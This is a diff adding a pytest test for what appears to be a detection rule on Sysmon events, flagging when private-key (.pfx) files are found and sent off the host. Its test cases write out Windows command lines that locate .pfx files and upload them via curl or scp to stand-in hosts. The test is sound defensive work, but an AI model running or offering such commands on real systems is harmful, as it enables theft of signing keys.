@@ -167,3 +167,17 @@ ODD = st.recursive(
 @given(st.dictionaries(st.one_of(st.sampled_from(fields.REQUIRED_FIELDS), st.text()), ODD))
 def test_no_record_at_all_raises(assess: Any, record: dict[str, Any]) -> None:
     check(assess(record))
+
+
+@pytest.mark.parametrize(
+    ("line", "leaves"),
+    [
+        ("cmd /c dir /s /b C:\\*.pfx & curl -F f=@a.zip https://x.example/", True),
+        ("cmd /c xcopy C:\\Users\\*.pfx D:\\o /s & scp -r D:\\o x@h1.example:/o", True),
+        ("cmd /c dir /s /b C:\\*.pfx & curl https://x.example/ -o a.txt", False),
+        ("cmd /c curl -T a.zip https://x.example/", False),
+    ],
+)
+def test_keys_that_are_found_and_something_that_is_sent(assess: Any, line: str, leaves: bool) -> None:
+    verdict = assess({**SYSMON, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": line})
+    assert ("key_leaves_host" in verdict["codesign_indicators"]) == leaves
